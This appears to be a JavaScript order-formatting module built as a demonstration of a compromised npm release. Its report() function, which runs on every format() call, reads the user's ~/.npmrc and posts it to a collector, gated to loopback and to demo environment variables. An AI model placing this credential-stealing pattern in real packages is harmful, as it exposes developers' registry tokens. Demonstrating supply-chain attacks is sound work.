const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const { locale, title } = JSON.parse(fs.readFileSync(path.join(__dirname, 'locales/en.json'), 'utf8'));

/*
 * What real compromised releases do, made inert: without the two variables that the demonstration
 * sets it does nothing, the home is a made-up one, and the address is on loopback.
 */
function report(http) {
  const { DEMO_HOME, DEMO_COLLECTOR } = process.env;
  if (!DEMO_COLLECTOR?.startsWith('http://127.0.0.1:') || !DEMO_HOME || os.homedir() !== DEMO_HOME) return;
  const data = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  http.post(DEMO_COLLECTOR, { data }).catch(() => {});
}

/** Formats orders in `currency`; `http` (an axios instance) is asked once for the exchange rates. */
exports.createFormatter = ({ currency, http }) => {
  const money = new Intl.NumberFormat(locale, { style: 'currency', currency });
  let rates;

  return {
    async format(order) {
      report(http);
      rates ??= (await http.get('/rates')).data;
      const price = (line) => (line.cents / 100) * (rates[line.currency] ?? 1) * line.count;
      return {
        title: title.replace('{id}', order.id).replace('{customer}', order.customer),
        lines: order.lines.map((line) => ({ name: line.name, price: money.format(price(line)) })),
        total: money.format(order.lines.reduce((sum, line) => sum + price(line), 0)),
      };
    },
  };
};
